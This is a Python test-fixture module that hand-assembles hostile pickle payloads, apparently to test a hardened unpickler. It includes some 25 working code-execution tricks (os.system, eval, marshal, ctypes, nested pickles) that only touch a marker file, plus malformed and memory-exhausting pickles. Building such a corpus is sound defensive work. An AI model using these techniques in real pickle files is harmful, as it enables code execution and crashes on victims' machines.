"""Hostile pickles, written opcode by opcode; those in ``RUNNING`` do run their command under Python's unpickler."""

import collections
import pickle
import struct
import subprocess

import numpy as np

WRITE = "__import__('pathlib').Path('{m}').touch()"


def text(value):
    """SHORT_BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def name(module, attribute):
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def touch(marker):
    return f"touch {marker}"


class Calls:
    """Pickled as a call of ``function(*arguments)``."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def by_class(protocol):
    import os

    return lambda marker: pickle.dumps({"train": Calls(os.system, touch(marker))}, protocol)


def call(module, attribute, *arguments, proto=b"\x80\x04"):
    """``module.attribute(*arguments)`` where the arguments are texts in which {m} is the marker."""

    def build(marker):
        values = b"".join(text(a.format(m=marker)) if isinstance(a, str) else a for a in arguments)
        return proto + stack_name(module, attribute) + b"(" + values + b"tR."

    return build


def raw(*parts):
    """Opcodes as they are; {m} in a text stands for the marker."""
    return lambda marker: b"".join(p.replace(b"{m}", str(marker).encode()) for p in parts)


def array_state(shape, kind, data, flags=b"K\x00"):
    """``_reconstruct(ndarray, (0,), b'b')`` and BUILD with the given state (each already opcodes)."""
    return (
        stack_name("numpy._core.multiarray", "_reconstruct") + stack_name("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R"
        b"(K\x01" + shape + kind + b"\x89" + data + b"tb"
    )


def dtype(code, state=None):
    usual = b"(K\x03" + text("|" if code in ("O8", "b1") else "<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    return stack_name("numpy", "dtype") + text(code) + b"\x89\x88\x87R" + (usual if state is None else state)


def nested_object_array(marker):
    import os

    array = np.empty(2, dtype=object)
    array[0] = [Calls(os.system, touch(marker))]
    return pickle.dumps({"train": {"text": array}}, 4)


def in_set(marker):
    return b"\x80\x04\x8f(" + stack_name("posix", "system") + text(touch(marker)) + b"\x85R\x90."


def popped(marker):
    """Runs, throws the result away, and leaves an innocent dictionary."""
    return b"\x80\x04" + stack_name("posix", "system") + text(touch(marker)) + b"\x85R0}."


def marshalled(marker):
    import marshal

    code = marshal.dumps(compile(WRITE.format(m=marker), "x", "exec"))
    loads = stack_name("marshal", "loads") + b"B" + struct.pack("<I", len(code)) + code + b"\x85R"
    return b"\x80\x04" + stack_name("types", "FunctionType") + loads + b"}\x86R)R."


def inner_pickle(marker):
    inner = by_class(2)(marker)
    return b"\x80\x04" + stack_name("_pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R."


def getattr_chain(marker):
    return (
        b"\x80\x04" + stack_name("builtins", "getattr") + name("builtins", "__import__") + text("os") + b"\x85R"
        + text("system") + b"\x86R" + text(touch(marker)) + b"\x85R."
    )  # fmt: skip


def popen(marker):
    return pickle.dumps(Calls(subprocess.call, ["touch", str(marker)]), 4)


def tuples(depth, tail=b""):
    return lambda marker: b"\x80\x04})" + b"\x85" * depth + tail


RUNNING = {
    "reduce os.system, protocol 0": by_class(0),
    "reduce os.system, protocol 2": by_class(2),
    "reduce os.system, protocol 4": by_class(4),
    "stack global": call("posix", "system", "touch {m}"),
    "eval": call("builtins", "eval", WRITE),
    "exec": call("builtins", "exec", WRITE),
    "python 2's eval": raw(b'c__builtin__\neval\n(S"' + WRITE.encode() + b'"\ntR.'),
    "getattr chain": getattr_chain,
    "subprocess": popen,
    "INST": raw(b"(S'touch {m}'\niposix\nsystem\n."),
    "OBJ": raw(b"(cos\nsystem\nS'touch {m}'\no."),
    "runpy": call("runpy", "_run_code", WRITE, b"}"),
    "timeit": call("timeit", "timeit", WRITE, text("pass"), name("time", "time"), b"K\x01"),
    "pydoc": call("pydoc", "pipepager", "x", "touch {m}"),
    "numpy runs strings": call("numpy.testing._private.utils", "runstring", WRITE, b"}"),
    "marshalled code": marshalled,
    "pickle in pickle": inner_pickle,
    "nested in an array of objects": nested_object_array,
    "in a set": in_set,
    "result thrown away": popped,
}
RUNNING["dotted name"] = call("os", "path.os.system", "touch {m}")
RUNNING["partial"] = lambda marker: (
    b"\x80\x04" + stack_name("functools", "partial") + stack_name("posix", "system") + text(touch(marker)) + b"\x86R)R."
)
RUNNING["methodcaller"] = lambda marker: (
    b"\x80\x04" + stack_name("operator", "methodcaller") + text("system") + text(touch(marker)) + b"\x86R"
    + stack_name("importlib", "import_module") + text("os") + b"\x85R\x85R."
)  # fmt: skip
RUNNING["map in a list"] = lambda marker: (
    b"\x80\x04" + stack_name("builtins", "list") + stack_name("builtins", "map") + stack_name("posix", "system")
    + b"](" + text(touch(marker)) + b"e\x86R\x85R."
)  # fmt: skip
RUNNING["ctypes"] = lambda marker: (
    b"\x80\x04" + stack_name("builtins", "getattr") + stack_name("ctypes", "CDLL") + b"N\x85R" + text("system")
    + b"\x86RC" + bytes([len(touch(marker))]) + touch(marker).encode() + b"\x85R."
)  # fmt: skip
RUNNING["name from the memo"] = lambda marker: (
    b"\x80\x04" + text("system") + b"\x94" + text("posix") + b"\x940" + b"0" + b"h\x01h\x00\x93"
    + text(touch(marker)) + b"\x85R."
)  # fmt: skip

_HUGE = struct.pack("<Q", 2**62)
REFUSED = {
    "NEWOBJ": raw(b"\x80\x04", stack_name("subprocess", "Popen"), b")\x81."),
    "NEWOBJ of an array": raw(b"\x80\x04", stack_name("numpy", "ndarray"), b"K\x05\x85\x81."),
    "NEWOBJ_EX": raw(b"\x80\x04", stack_name("collections", "OrderedDict"), b")}\x92."),
    "BUILD on a function": raw(b"\x80\x04", stack_name("numpy", "dtype"), b"N}", text("_function"), b"Ns\x86b."),
    "BUILD on a set": raw(b"\x80\x04\x8f}", text("x"), b"K\x01s}", text("y"), b"K\x02s\x86b."),
    "BUILD on a number": raw(b"\x80\x04", stack_name("numpy._core.multiarray", "scalar"), dtype("f8"),
                             b"C\x08AAAAAAAA\x86RNb."),
    "BUILD with another size": raw(b"\x80\x04", array_state(b"K\x02\x85", dtype("u1"), b"C\x02\x05\x06"),
                                   b"(K\x01K\x09\x85", dtype("u1"), b"\x89C\x02\x05\x06tb."),
    "item of a function": raw(b"\x80\x04", stack_name("numpy", "dtype"), text("x"), b"K\x01s."),
    "method of an array": raw(b"\x80\x04", array_state(b"K\x02\x85", dtype("u1"), b"C\x02\x05\x06"), b"K\x01a."),
    "bytearray in a frame": raw(b"\x80\x05\x95", struct.pack("<Q", 10), b"\x96", _HUGE, b"x."),
    "BUILD on a dictionary": raw(b"\x80\x04}}", text("__class__"), b"Nsb."),
    "__setstate__ of a stranger": raw(b"\x80\x04", stack_name("collections", "Counter"), b")R}b."),
    "EXT1": raw(b"\x80\x04\x82\x01)R."),
    "EXT2": raw(b"\x80\x04\x83\x01\x01)R."),
    "EXT4": raw(b"\x80\x04\x84\x01\x01\x01\x01)R."),
    "PERSID": raw(b"P{m}\n."),
    "BINPERSID": raw(b"\x80\x04", text("x"), b"Q."),
    "out-of-band buffer": raw(b"\x80\x05\x97."),
    "array's class": raw(b"\x80\x04", text("numpy"), text("ndarray.__class__"), b"\x93."),
    "numpy.load": call("numpy", "load", "{m}"),
    "memmap": raw(b"\x80\x04", stack_name("numpy", "memmap"), text("{m}"), b"\x85R."),
    "array of a subclass": raw(b"\x80\x04", stack_name("numpy._core.multiarray", "_reconstruct"),
                               stack_name("numpy", "matrix"), b"K\x00\x85C\x01b\x87R."),
    "array of a function": raw(b"\x80\x04", stack_name("numpy._core.multiarray", "_reconstruct"),
                               stack_name("numpy", "dtype"), b"K\x00\x85C\x01b\x87R."),
    "ufunc": raw(b"\x80\x04", stack_name("numpy.core", "_ufunc_reconstruct"), text("numpy"), text("add"), b"\x86R."),
    "gigantic ndarray call": raw(b"\x80\x04", stack_name("numpy", "ndarray"), b"\x8a\x06\0\0\0\0\0\x40\x85\x85R."),
    "gigantic shape": raw(b"\x80\x04", array_state(b"J\xff\xff\xff\x7f" * 2 + b"\x86", dtype("f8"), b"C\x01x"), b"."),
    "overflowing shape": raw(b"\x80\x04", array_state(b"\x8a\x05\0\0\0\0\1" * 2 + b"\x86", dtype("f8"), b"C\0"), b"."),
    "negative shape": raw(b"\x80\x04", array_state(b"J\xff\xff\xff\xff\x85", dtype("u1"), b"C\x01x"), b"."),
    "shape of floats": raw(b"\x80\x04", array_state(b"G\x3f\xf0\0\0\0\0\0\0\x85", dtype("u1"), b"C\x01x"), b"."),
    "pointers from bytes": raw(b"\x80\x04", array_state(b"K\x01\x85", dtype("O8"), b"C\x08AAAAAAAA"), b"."),
    "pointers from a buffer": raw(b"\x80\x05", stack_name("numpy._core.numeric", "_frombuffer"),
                                  b"(\x96\x08\0\0\0\0\0\0\0AAAAAAAA", dtype("O8"), b"K\x01\x85", text("C"), b"tR."),
    "pointer from a scalar": raw(b"\x80\x04", stack_name("numpy._core.multiarray", "scalar"), dtype("O8"),
                                 b"C\x08AAAAAAAA\x86R."),
    "structure with false flags": raw(b"\x80\x04", array_state(
        b"K\x01\x85", dtype("V8", b"(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + dtype("O8")
                            + b"K\x00\x86sK\x08K\x01K\x00tb"), b"C\x08AAAAAAAA"), b"."),
    "fields in a plain type": raw(b"\x80\x04", array_state(
        b"K\x01\x85", dtype("f8", b"(K\x03" + text("|") + b"N" + text("a") + b"\x85}" + text("a") + dtype("O8")
                            + b"K\x00\x86sK\x08K\x01K\x00tb"), b"C\x08AAAAAAAA"), b"."),
    "bytearray of a size": raw(b"\x80\x04", stack_name("builtins", "bytearray"), b"\x8a\x06\0\0\0\0\0\x40\x85R."),
    "another codec": call("_codecs", "encode", "x", "zlib_codec"),
    "_codecs.decode": call("_codecs", "decode", "x", "unicode_escape"),
    "reconstructor": raw(b"ccopy_reg\n_reconstructor\n(c__main__\nX\nc__builtin__\nobject\nNtR."),
    "torch": call("torch.storage", "_load_from_bytes", "x"),
    "pandas": call("pandas", "read_pickle", "{m}"),
    "name that is no text": raw(b"\x80\x04K\x01K\x02\x93."),
    "name with a line break": raw(b"\x80\x04", text("numpy\nos"), text("system"), b"\x93."),
    "name of a thousand letters": raw(b"c", b"a" * 5000, b"\nx\n."),
    "cut off in an array": lambda marker: pickle.dumps({"train": np.ones(500)}, 4)[:-600],
    "cut off before its end": lambda marker: pickle.dumps({"train": np.ones(500)}, 4)[:-1],
    "protocol 9": raw(b"\x80\x09}."),
    "bytes of 4 EiB": raw(b"\x80\x04\x8e", _HUGE, b"x."),
    "bytearray of 4 EiB": raw(b"\x80\x05\x96", _HUGE, b"x."),
    "text of 4 EiB": raw(b"\x80\x04\x8d", _HUGE, b"x."),
    "frame of 4 EiB": raw(b"\x80\x04\x95", _HUGE, b"}."),
    "negative length": raw(b"\x80\x02T\xff\xff\xff\xffx."),
    "memo of 4 billion": raw(b"\x80\x02}r\xff\xff\xff\xff."),
    "memo of 10^11": raw(b"}p99999999999\n."),
    "nested tuples as a key": tuples(300_000, b"Ns."),
    "empty stack": raw(b"\x80\x04R."),
    "mark that is missing": raw(b"\x80\x04}u."),
    "memo that is missing": raw(b"\x80\x04h\x05."),
    "unknown opcode": raw(b"\x80\x04\xff."),
    "list as a key": raw(b"\x80\x04}]Ns."),
    "text that is no UTF-8": raw(b"\x80\x04\x8c\x02\xff\xfe."),
    "number of a million digits": raw(b"\x80\x02I", b"9" * 1_000_000, b"\n."),
    "no pickle behind its mark": raw(b"\x80\x04" + b"hello world"),
    "dictionary that holds itself": raw(b"\x80\x04}\x94", text("train"), b"h\x00s."),
}  # fmt: skip
ATTACKS = collections.ChainMap(RUNNING, REFUSED)
